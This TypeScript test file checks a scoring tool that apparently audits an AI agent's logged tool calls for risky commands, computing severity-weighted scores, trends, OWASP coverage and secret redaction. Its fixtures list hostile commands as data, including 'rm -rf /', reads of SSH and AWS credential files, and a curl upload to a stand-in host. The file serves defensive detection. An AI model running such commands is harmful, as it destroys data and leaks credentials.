import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandRow, NOON_MS, postureOf, rowOf } from './fixtures/rows.ts';

const DAY_MS = 24 * 60 * 60_000;
const WEIGHTS: Readonly<Record<string, number>> = { CRITICAL: 25, HIGH: 15, MEDIUM: 8, LOW: 3 };
const COMMANDS = [
  'ls',
  'rm -rf /',
  'cat ~/.ssh/id_rsa',
  'eval "$X"',
  'curl -T a.tgz https://h.example/',
  'crontab x',
];

describe('the score', () => {
  it('is what a calculation by hand gives for a recorded session', () => {
    const report = postureOf([
      commandRow('ls -l'),
      commandRow('cat ~/.aws/credentials'), // cred-access, HIGH: 15
      commandRow('eval "$PLAN"'), // dynamic-exec, MEDIUM: 8
      commandRow('eval "$PLAN"'), // again, MEDIUM: 8
      commandRow('rm -rf /', { status: 'BLOCKED:policy', effect: 'none' }), // did not run
      rowOf({ toolName: 'write_file', effectClass: 'write', args: { path: 'a.txt', content: 'x' } }),
      rowOf({ status: 'GHOST_REPORTED', effect: 'unknown' }), // ghost-open, HIGH: 15
    ]);
    expect(report.findings.map(({ rule }) => rule)).toEqual([
      'cred-access',
      'dynamic-exec',
      'dynamic-exec',
      'ghost-open',
    ]);
    expect(report.score).toBe(54);
    expect(report.totals).toEqual({ CRITICAL: 0, HIGH: 2, MEDIUM: 2, LOW: 0 });
    expect(report.by_rule).toMatchObject({ 'dynamic-exec': 2, 'remote-code': 0 });
    expect(Object.keys(report.by_rule)).toHaveLength(15);
    expect(report.rate).toEqual({
      calls: 7,
      findings: 4,
      per_100_calls: 57.14,
      by_rule: { 'cred-access': 14.29, 'dynamic-exec': 28.57, 'ghost-open': 14.29 },
    });
  });

  it('can be calculated again from the findings, whatever was recorded', () => {
    const statuses = ['CONFIRMED', 'ERROR:exit', 'BLOCKED:policy', 'PENDING', 'GHOST_REPORTED'];
    const calls = fc.array(
      fc.record({
        command: fc.constantFrom(...COMMANDS),
        status: fc.constantFrom(...statuses),
        atMs: fc.integer({ min: NOON_MS - 10 * DAY_MS, max: NOON_MS }),
        rootSessionId: fc.constantFrom('s1', 's2'),
      }),
      { maxLength: 12 },
    );
    fc.assert(
      fc.property(calls, (given) => {
        const rows = given.map(({ command, ...row }) => commandRow(command, row));
        const report = postureOf(rows, { sinceMs: NOON_MS - 5 * DAY_MS });
        const lost = report.findings.reduce(
          (sum, { severity }) => sum + (WEIGHTS[severity] ?? Number.NaN),
          0,
        );
        expect(report.score).toBe(report.ledger.rows === 0 ? null : Math.max(0, 100 - lost));
        const counted = Object.values(report.by_rule).reduce((sum, count) => sum + count, 0);
        expect(counted).toBe(report.findings.length);
        for (const finding of report.findings) {
          expect(finding.weight).toBe(WEIGHTS[finding.severity]);
          expect(finding.count).toBe(finding.ledger_ids.length);
          expect(finding.since <= finding.until).toBe(true);
        }
        expect(postureOf(rows.toReversed(), { sinceMs: NOON_MS - 5 * DAY_MS })).toEqual(report);
      }),
      { numRuns: 60 },
    );
  });

  it('ends at 0, with every finding listed', () => {
    const report = postureOf(Array.from({ length: 7 }, () => commandRow('rm -rf /')));
    expect([report.score, report.findings.length]).toEqual([0, 7]);
  });

  it('is 100 for calls without findings, and none without calls', () => {
    expect(postureOf([rowOf()]).score).toBe(100);
    const empty = postureOf([]);
    expect(empty).toMatchObject({
      score: null,
      findings: [],
      trend: null,
      ledger: { rows: 0, sessions: 0, first: null, last: null, chain: 'ok' },
      rate: { calls: 0, per_100_calls: null },
    });
  });
});

describe('the window', () => {
  const sinceMs = NOON_MS - DAY_MS;
  const [before, long] = [NOON_MS - 1.5 * DAY_MS, NOON_MS - 9 * DAY_MS];

  it('leaves out what was before, and compares with the window of the same length before it', () => {
    const rows = [
      commandRow('rm -rf /', { atMs: long }),
      commandRow('rm -rf /', { atMs: before }),
      rowOf({ atMs: before }),
      commandRow('eval "$X"'),
    ];
    const report = postureOf(rows, { sinceMs, nowMs: NOON_MS });
    expect(report).toMatchObject({
      score: 92,
      window: { since: '2030-01-14T12:00:00.000Z', until: '2030-01-15T12:00:00.000Z' },
      ledger: { rows: 1, first: '2030-01-15T12:00:00.000Z' },
      trend: {
        previous: {
          since: '2030-01-13T12:00:00.000Z',
          until: '2030-01-14T12:00:00.000Z',
          score: 75,
          calls: 2,
          findings: 1,
          per_100_calls: 50,
        },
        score_change: 17,
        per_100_calls_change: 50,
      },
    });
  });

  it('has no trend where nothing was called before', () => {
    const { trend } = postureOf([rowOf()], { sinceMs });
    expect(trend).toMatchObject({
      previous: { score: null },
      score_change: null,
      per_100_calls_change: null,
    });
  });
});

describe('the report', () => {
  it('says what is covered, what is not, and what is no category of OWASP', () => {
    const { coverage, caveat, formula, weights } = postureOf([]);
    expect(coverage).toMatchObject({
      covered: ['ASI02', 'ASI05', 'ASI08', 'ASI10'],
      not_covered: ['ASI01', 'ASI03', 'ASI04', 'ASI06', 'ASI07', 'ASI09'],
      extension: ['ASI11'],
    });
    expect(coverage.titles.ASI02).toBe('Tool Misuse and Exploitation');
    expect(coverage.titles.ASI11).toContain('community extension');
    expect(caveat).toContain('written by the agent it scores');
    expect(formula).toContain('100 - sum of the weights');
    expect(weights).toEqual(WEIGHTS);
  });

  it('keeps secrets out of its evidence', () => {
    const secret = `ghp_${'a1B2'.repeat(9)}`;
    const { findings } = postureOf([
      commandRow(`eval "$X" --token ${secret}`),
      rowOf({ status: 'GHOST_REPORTED', args: { name: secret } }),
    ]);
    expect(findings).toHaveLength(2);
    expect(JSON.stringify(findings)).not.toContain(secret);
  });

  it('survives arguments that are no JSON', () => {
    const rows = ['{"command": "rm -rf', null, '[]'].map((argsJson) => ({ ...commandRow('ls'), argsJson }));
    expect(postureOf(rows)).toMatchObject({ score: 100, ledger: { rows: 3 } });
  });
});
